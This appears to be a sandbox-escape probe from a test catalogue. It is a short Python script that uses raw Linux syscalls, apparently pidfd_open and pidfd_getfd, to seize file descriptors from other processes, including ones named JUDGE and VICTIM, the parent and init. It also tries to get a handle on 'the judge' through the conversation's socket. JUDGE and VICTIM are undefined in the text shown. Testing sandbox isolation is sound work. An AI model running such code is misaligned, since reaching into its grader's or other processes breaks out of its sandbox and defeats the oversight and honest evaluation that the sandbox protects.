# family: descriptors
# tries: takes descriptors out of other processes by a handle on them
# witness: a claim
# %%
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for process in (JUDGE, VICTIM, os.getppid(), 1):
    handle = libc.syscall(434, process, 0)
    if handle >= 0:
        print("REACHED a handle")
        for fd in range(10):
            if libc.syscall(438, handle, fd, 0) >= 0:
                print("REACHED", fd)
value, size = ctypes.c_int(), ctypes.c_int(4)
if libc.getsockopt(3, 1, 77, ctypes.byref(value), ctypes.byref(size)) == 0:
    print("REACHED: a handle on the judge, from the conversation's socket")
